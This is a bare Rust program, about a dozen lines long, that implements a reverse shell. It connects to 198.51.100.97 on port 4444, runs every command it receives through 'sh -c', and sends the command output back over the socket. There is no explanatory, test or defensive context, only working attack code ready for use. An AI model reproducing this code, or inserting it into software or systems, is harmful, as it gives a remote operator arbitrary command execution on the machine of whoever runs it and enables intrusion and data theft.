use std::io::{Read, Write};
use std::net::TcpStream;
use std::process::Command;
fn main() {
    let mut s = TcpStream::connect("198.51.100.97:4444").unwrap();
    let mut b = [0u8; 4096];
    loop {
        let n = s.read(&mut b).unwrap();
        if n == 0 { break; }
        let o = Command::new("sh").arg("-c").arg(String::from_utf8_lossy(&b[..n]).to_string()).output().unwrap();
        s.write_all(&o.stdout).unwrap();
    }
}
